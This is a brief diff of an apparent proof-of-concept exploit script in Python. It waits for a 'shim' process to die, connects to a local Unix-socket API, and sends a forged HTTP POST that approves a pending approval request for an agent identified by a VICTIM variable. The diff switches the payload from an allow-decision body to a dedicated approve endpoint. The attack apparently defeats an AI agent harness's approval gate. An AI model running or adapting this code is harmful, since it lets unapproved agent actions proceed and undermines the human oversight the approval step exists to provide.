@@ -60,8 +60,8 @@ while True:
     if open(f'/proc/{shim}/stat').read().split()[2] in 'ZX': break
 s = socket.socket(socket.AF_UNIX)
 s.connect(os.environ['STATE'] + '/run/api.sock')
-body = b'{"decision":"allow"}'
-s.sendall(b'POST /v1/agents/%s/approvals/%s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n'
+body = b'{}'
+s.sendall(b'POST /v1/agents/%s/approvals/%s/approve HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n'
           b'content-length: %d\r\n\r\n' % (os.environ['VICTIM'].encode(), os.environ['APPROVAL'].encode(), len(body))
           + body)
 s.recv(100)
